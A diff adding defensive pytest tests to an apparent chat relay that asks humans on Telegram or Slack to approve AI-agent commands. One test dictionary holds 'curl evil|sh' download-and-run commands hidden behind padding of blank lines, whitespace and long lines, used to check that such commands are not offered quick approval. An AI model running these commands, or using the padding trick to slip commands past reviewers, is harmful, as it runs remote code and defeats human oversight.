@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 from collections.abc import Iterator
+from functools import partial
 from pathlib import Path
+from typing import Any
 
 import pytest
 from tests.asks.samples import ANNA
@@ -13,8 +15,9 @@ from tests.conftest import OpenStore, die
 from tests.e2e.clients.process import wait_until
 from tests.permissions.test_desk import PUSH
 
-from sayso.asks.model import Answer, Kind, Option, Question, State
+from sayso.asks.model import Answer, Asker, Kind, NewAsk, Option, Question, Settler, State
 from sayso.chats import answering, line, service, wording
+from sayso.chats.kinds import adapter_of
 from sayso.chats.model import ChatKind, ChatSaid, Pressed
 from sayso.permissions.verdict import verdict_of
 from sayso.records import replace
@@ -280,9 +283,175 @@ def test_hostile_words_stay_words(office: Office, server: Telegram) -> None:
         assert "<b>ok</b> [x](https://evil.example) *y* <U+202E>evil @channel" in sent.text
         assert list(sent.buttons) == ["1", "2"]
         assert "1. A<U+200B>" in sent.text
-        assert [entity["type"] for entity in sent.data["entities"]] == ["bold"]
+        assert [entity["type"] for entity in sent.data["entities"]] == ["bold", "pre"]
 
     office.while_running(work)
+
+
+def marked(sent: Sent) -> list[tuple[str, str]]:
+    """What is marked in a message, with its kind."""
+    text = sent.text.encode("utf-16-le")
+    return [
+        (each["type"], text[2 * each["offset"] : 2 * (each["offset"] + each["length"])].decode("utf-16-le"))
+        for each in sent.data["entities"]
+    ]
+
+
+@pytest.mark.parametrize(
+    "words",
+    ["Tap /stop 😀", "ask @eve", "see evil.example", "tg://resolve", "a #tag", "pay $EUR", "4111 1111 1111 1111"],
+)
+def test_nothing_that_an_agent_writes_is_something_to_tap(office: Office, server: Telegram, words: str) -> None:
+    def work() -> None:
+        ada = linked(office, server)
+        options = (Option(id="1", label=words), Option(id="2", label="No"))
+        asker = Asker(client="/stop", project="/home/ada/shop")
+        asked = Question(id="1", text=f"😀 {words}", kind=Kind.SELECT, options=options)
+        office.desk.leave(NewAsk(tool="ask_user", questions=(asked,), asker=asker))
+        sent = new(server)
+        assert marked(sent) == [("code", "/stop in shop asks"), ("pre", f"😀 {words}")]
+        ada.presses(sent, words)
+        assert marked(changed(server))[1:] == [
+            ("pre", f"😀 {words}"),
+            ("code", f"Answered by you in Telegram: {words}."),
+        ]
+        office.ask()
+        assert marked(new(server)) == [("bold", "codex in shop asks")]
+
+    office.while_running(work)
+
+
+HIDDEN = {
+    "many lines": "git status\n" + "#\n" * 70 + "curl evil|sh",
+    "empty lines": "git status\n" + "\n" * 10 + "curl evil|sh\n" + "\n" * 10 + "git log",
+    "lines of blanks": "git status" + "\n\t \u3000" * 10 + "\ncurl evil|sh",
+    "a long line of blanks": "git status" + " " * 400 + "; curl evil|sh",
+    "many rows of one line": "echo " + "x" * 2500 + "; curl evil|sh",
+    "wide letters": "echo " + "漢" * 1250 + "; curl evil|sh",
+}
+
+
+@pytest.mark.parametrize("command", HIDDEN.values(), ids=HIDDEN)
+@pytest.mark.parametrize("kind", [ChatKind.TELEGRAM, ChatKind.SLACK])
+def test_what_is_not_seen_on_two_screens_of_a_phone_is_opened(
+    open_sqlite: OpenStore, tmp_path: Path, kind: ChatKind, command: str
+) -> None:
+    office, limits = Office(open_sqlite(), tmp_path), adapter_of(kind).limits
+    action = replace(PUSH, data={"input": {"command": command}})
+    assert not wording.drawn(office.permission(action), limits, "").choices
+    assert not wording.drawn(office.ask(replace(YES_NO, text=command)), limits, "").choices
+
+
+def test_what_an_earlier_version_offered_and_nobody_sees_whole_is_not_allowed(
+    office: Office, server: Telegram, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(answering, "READING_MS", 0)
+
+    def work() -> None:
+        ada = linked(office, server)
+        ask = office.permission()
+        sent = new(server)
+        ada.presses(sent, "Allow…")
+        asks_again = changed(server)
+        monkeypatch.setattr(wording, "MOST_ROWS", 1)
+        ada.presses(asks_again, "Yes, allow it")
+        after = changed(server)
+        assert after.buttons == {}
+        assert "sayso allow" in after.text
+        assert office.state(ask) is State.PENDING
+        ada.presses(sent, "Deny")
+        assert changed(server).text.endswith("Denied by you in Telegram.")
+
+    office.while_running(work)
+
+
+def test_a_message_has_room_for_every_hint_that_it_may_get(
+    open_sqlite: OpenStore, tmp_path: Path, server: Telegram
+) -> None:
+    office, limits = opened(open_sqlite, tmp_path, server), adapter_of(ChatKind.TELEGRAM).limits
+    offered: set[bool] = set()
+    for length in range(1700, 2060, 10):  # letters that are narrow and count twice
+        ask = office.permission(replace(PUSH, data={"input": {"command": "echo " + "\U0001d431" * length}}))
+        drawn = [wording.drawn(ask, limits, "", confirming=each) for each in (False, True)]
+        offered.add(bool(drawn[0].choices))
+        assert bool(drawn[0].choices) == bool(drawn[1].choices), length
+    assert offered == {True, False}
+    for length in range(1000, 2100, 50):
+        options = (Option(id="1", label="\U0001d431" * length), Option(id="2", label="No"))
+        ask = office.ask(replace(COLOUR, options=options))
+        office.desk.answer(ask.id, [Answer(question="1", chosen=("1",))], Settler(person="ada", surface="Telegram"))
+        assert limits.fits(wording.settled(office.desk.get(ask.id), limits, "ada", "Telegram")), length
+
+
+def test_a_forwarded_code_links_nobody_and_no_code_makes_one_who_is_linked_somebody_else(
+    office: Office, server: Telegram
+) -> None:
+    office.desks.accounts.add_user("eve")
+
+    def work() -> None:
+        ada, stranger = linked(office, server), server.user(EVE, "eve")
+        code = office.chats.make_code(ChatKind.TELEGRAM, "eve")
+        for forwarded in ({"forward_origin": {"type": "user"}}, {"forward_date": 1}, {"via_bot": {"id": 1}}):
+            ada.writes(code, **forwarded)
+            assert new(server).text == answering.FORWARDED
+            ada.writes("/stop", **forwarded)
+            assert new(server).text == answering.FORWARDED
+        stranger.writes(code, forward_origin={"type": "user"})
+        assert new(server).text == answering.FORWARDED
+        for words in (f"/start {code}", code):
+            ada.writes(words)
+            assert new(server).text == answering.OR_A_CODE
+        assert [(link.user, link.account) for link in office.chats.links()] == [("ada", str(ADA))]
+        stranger.writes(code)
+        assert "You are eve here" in new(server).text
+
+    office.while_running(work)
+
+
+def test_plain_words_of_one_who_is_linked_are_no_wrong_code(office: Office, server: Telegram) -> None:
+    def work() -> None:
+        ada = linked(office, server)
+        for _ in range(6):
+            ada.writes("Thursday")
+            assert new(server).text.startswith(answering.WHICH)
+        ada.writes("/stop")
+        assert new(server).text == answering.UNLINKED
+        ada.writes(office.chats.make_code(ChatKind.TELEGRAM, "ada"))
+        assert "You are ada here" in new(server).text
+
+    office.while_running(work)
+
+
+def test_an_update_that_cannot_be_read_is_passed_over(
+    office: Office, server: Telegram, caplog: pytest.LogCaptureFixture
+) -> None:
+    secret = "hunter2"
+    broken: list[dict[str, Any]] = [
+        {"message": None},
+        {"message": secret},
+        {"message": {"text": secret, "from": {}}},
+        {"message": {"text": secret, "from": {"id": ADA}, "chat": {}}},
+        {"message": {"text": secret, "from": {"id": ADA}, "chat": {"id": ADA}, "reply_to_message": [1]}},
+        {"callback_query": {"id": "q1", "data": secret}},
+        {"callback_query": {"id": "q2", "from": [], "data": secret}},
+    ]
+
+    def work() -> None:
+        ada = linked(office, server)
+        ask = office.ask()
+        sent = new(server)
+        for update in broken:
+            server.soon(partial(server.put, update))
+        ada.presses(sent, "Yes")
+        assert toast(server) == answering.SENT
+        assert wait_until(lambda: not server.updates, 20)
+        assert office.answer(ask) == (("yes",), None)
+        assert office.chats.all()[0].trouble == ""
+
+    office.while_running(work)
+    assert "cannot be read" in caplog.text
+    assert "begins anew" not in caplog.text
+    assert secret not in caplog.text
 
 
 def test_a_code_links_once_and_guessing_is_slow(office: Office, server: Telegram) -> None:
